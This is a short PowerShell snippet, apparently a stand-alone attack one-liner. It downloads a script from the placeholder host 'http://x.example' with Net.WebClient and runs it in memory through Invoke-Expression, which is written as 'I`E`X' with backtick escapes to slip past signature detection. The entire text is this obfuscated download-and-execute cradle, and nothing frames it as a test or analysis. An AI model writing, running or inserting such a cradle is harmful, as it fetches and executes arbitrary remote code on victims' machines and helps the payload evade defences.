$c = New-Object Net.WebClient
I`E`X $c.DownloadString("http://x.example")
<# c #>
